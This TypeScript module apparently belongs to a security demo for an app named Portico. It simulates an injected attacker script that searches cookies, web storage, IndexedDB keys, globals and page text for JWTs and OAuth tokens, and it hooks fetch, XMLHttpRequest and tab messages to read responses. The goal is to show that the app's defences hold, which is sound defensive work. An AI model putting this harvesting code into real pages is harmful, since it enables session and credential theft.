import { generateKeyPair, generateProof } from 'dpop'

/*
 * What an attacker's script does that runs in this page. It uses nothing of the app: only what every script of
 * a page can reach.
 */

/** What the script found in one place. */
export interface Finding {
  place: string
  /** In words: what is there, and why it is no use or is one. */
  found: string
  /** JWTs, and other text that looks like a secret of OAuth. */
  tokens: string[]
}

const jwt = /eyJ[\w-]+\.[\w-]+\.[\w-]*/g
/** Names of members by which OAuth and OpenID Connect deliver tokens of a provider. */
const providerToken = /"(?:refresh_token|access_token|id_token)"\s*:\s*"([^"]+)"/g

const findTokens = (text: string): string[] => [
  ...new Set([
    ...(text.match(jwt) ?? []),
    ...[...text.matchAll(providerToken)].map(([, value = '']) => value),
  ]),
]

/** Says whether a token is one of Portico's, and not one of the provider's. */
export function isAppToken(token: string): boolean {
  const [, payload = ''] = token.split('.')
  try {
    const { iss } = JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/'))) as { iss?: unknown }
    return iss === location.origin
  } catch {
    return false
  }
}

const describe = (tokens: string[]): string => (tokens.every(isAppToken) ? 'an app token' : 'a token')

const toFinding = (place: string, text: string, otherwise: string): Finding => {
  const tokens = findTokens(text)
  return { place, found: tokens.length > 0 ? describe(tokens) : otherwise, tokens }
}

function searchCookies(): Finding {
  const visible = document.cookie
  const found = visible === '' ? 'nothing: the session cookie is HttpOnly' : `no token, only: ${visible}`
  return toFinding('document.cookie', visible, found)
}

function searchStorage(name: 'localStorage' | 'sessionStorage'): Finding {
  const count = globalThis[name].length
  const found =
    count === 0 ? 'nothing' : `no token (${count === 1 ? '1 entry' : `${count} entries`} of this page)`
  return toFinding(name, JSON.stringify(globalThis[name]), found)
}

const toPromise = <Value>(request: IDBRequest<Value>): Promise<Value> =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result)
    request.onerror = () => reject(request.error)
  })

async function readDatabase(name: string): Promise<unknown[]> {
  const database = await toPromise(indexedDB.open(name))
  try {
    const stores = [...database.objectStoreNames]
    const reads = stores.map((store) => toPromise(database.transaction(store).objectStore(store).getAll()))
    return (await Promise.all(reads)).flat()
  } finally {
    database.close()
  }
}

/** Returns the private keys in a value, such as those of a pair. */
const findKeys = (value: unknown): CryptoKey[] => {
  if (value instanceof CryptoKey) return value.type === 'private' ? [value] : []
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(findKeys) : []
}

async function searchDatabases(): Promise<Finding> {
  const databases = await indexedDB.databases()
  const values = (await Promise.all(databases.map(({ name = '' }) => readDatabase(name)))).flat()
  const keys = findKeys(values)
  const exports = await Promise.allSettled(keys.map((key) => crypto.subtle.exportKey('jwk', key)))
  const stolen = exports.flatMap((each) => (each.status === 'fulfilled' ? [JSON.stringify(each.value)] : []))
  if (stolen.length > 0) return { place: 'IndexedDB', found: 'a private key', tokens: stolen }
  const found =
    keys.length === 0 ? 'nothing' : 'the key of the app tokens: it can be used in this page, but not copied'
  return toFinding('IndexedDB', JSON.stringify(values), found)
}

function searchPage(): Finding {
  const tokens = findTokens(document.body.textContent)
  return {
    place: 'The text of the page',
    found: tokens.length > 0 ? `${describe(tokens)}, which this demo shows` : 'nothing',
    tokens,
  }
}

/** Looks through what is reachable from `window` by name; what a module keeps to itself is not. */
function searchMemory(): Finding {
  const seen = new Set<unknown>()
  const texts: string[] = []
  const visit = (value: unknown, depth: number) => {
    if (typeof value === 'string') texts.push(value)
    if (typeof value !== 'object' || value === null || value instanceof Node || seen.has(value)) return
    seen.add(value)
    if (depth === 0) return
    for (const name of Object.getOwnPropertyNames(value)) {
      const { value: inner } = Object.getOwnPropertyDescriptor(value, name) ?? {}
      visit(inner, depth - 1)
    }
  }
  visit(window, 4)
  return toFinding('Global variables', texts.join('\n'), 'nothing: the client keeps the token to itself')
}

/** The client's tabs pass their token on, so that one of them renews it for all. */
const tabsChannel = 'portico /api'

/** Sees what comes by fetch, XMLHttpRequest and from other tabs while `act` runs. */
async function watch(act: () => Promise<unknown>): Promise<Finding> {
  const texts: string[] = []
  const reads: Promise<unknown>[] = []
  const { fetch } = window
  const { send } = XMLHttpRequest.prototype
  window.fetch = async (...request) => {
    const response = await fetch(...request)
    const read = response.clone().text()
    reads.push(read.then((text) => texts.push(text)))
    return response
  }
  XMLHttpRequest.prototype.send = function (...body) {
    this.addEventListener('load', () => texts.push(String(this.response)))
    send.apply(this, body)
  }
  const tabs = new BroadcastChannel(tabsChannel)
  tabs.onmessage = ({ data }) => texts.push(JSON.stringify(data))
  try {
    await act()
    await Promise.all(reads)
  } finally {
    window.fetch = fetch
    XMLHttpRequest.prototype.send = send
    tabs.close()
  }
  return toFinding('Responses, messages of other tabs', texts.join('\n'), 'nothing')
}

/** Asks Portico for a token, as the page does; with a key of the thief's own, or without one. */
async function askForToken(place: string, isBound: boolean): Promise<Finding> {
  const address = `${location.origin}/api/token`
  const key = await generateKeyPair('ES256', { extractable: true })
  const proof = isBound ? { DPoP: await generateProof(key, address, 'POST') } : {}
  const headers = { 'X-CSRF': '1', 'Content-Type': 'application/json', ...proof }
  const response = await fetch(address, { method: 'POST', headers, body: '{}' })
  const text = await response.text()
  const { code = 'an answer without a code' } = JSON.parse(text) as { code?: string }
  return toFinding(place, text, `refused: ${response.status} ${code}`)
}

/** Looks everywhere. `renew` makes the page ask for its next token, for which a thief would have to wait. */
export async function searchEverywhere(renew: () => Promise<unknown>): Promise<Finding[]> {
  return [
    searchCookies(),
    searchStorage('localStorage'),
    searchStorage('sessionStorage'),
    await searchDatabases(),
    searchMemory(),
    searchPage(),
    await watch(renew),
    await askForToken('Asking for a token, without a key', false),
    await askForToken('Asking for one with the thief’s own key', true),
  ]
}
